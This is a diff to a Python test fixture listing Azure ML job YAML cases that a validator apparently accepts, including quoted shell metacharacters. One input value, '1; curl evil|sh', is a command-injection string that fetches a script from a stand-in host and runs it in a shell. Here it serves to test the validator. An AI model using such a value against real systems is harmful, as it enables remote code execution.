@@ -22,17 +22,18 @@ ALLOWED: dict[str, list[str]] = {
     ],
     "parallel-output": [_PARALLEL + "      append_row_to: ${{outputs.scored}}\n"],
     "shell-metacharacter": [
-        "environment: azureml:e:1\ncommand: train '${{inputs.x}}'\n"
+        "environment: azureml:e:1\ncommand: python train.py '${{inputs.x}}'\n"
         "inputs: {x: '1; curl evil|sh'}\n",
-        "environment: azureml:e:1\ncommand: train ${{inputs.x}}\n"
+        "environment: azureml:e:1\ncommand: python train.py ${{inputs.x}}\n"
         "inputs: {x: two words-1.5_a b=c/d}\n",
-        "environment: azureml:e:1\ncommand: 'train \"${{inputs.x}}\"'\ninputs: {x: (.*) & jpg}\n",
+        "environment: azureml:e:1\ncommand: 'python train.py \"${{inputs.x}}\"'\n"
+        "inputs: {x: (.*) & jpg}\n",
         "environment: azureml:e:1\ncommand: cat ${{inputs.x}}\n"
         "inputs: {x: {type: uri_folder, path: data}}\n",
         "environment: azureml:e:1\ncommand: train\ninputs: {unused: 'a; b'}\n",
         PIPELINE + "  far:\n    component: azureml://registries/r/components/c/versions/1\n"
         "    inputs: {title: 'a & b (c)', columns: '[\"x\"]'}\n",
-        'environment: azureml:e:1\ncommand: "echo \\"don\'t\\"; train \'${{inputs.x}}\'"\n'
+        'environment: azureml:e:1\ncommand: "echo \\"don\'t\\"; python x.py \'${{inputs.x}}\'"\n'
         "inputs: {x: a|b}\n",
     ],
     "bad-name": [
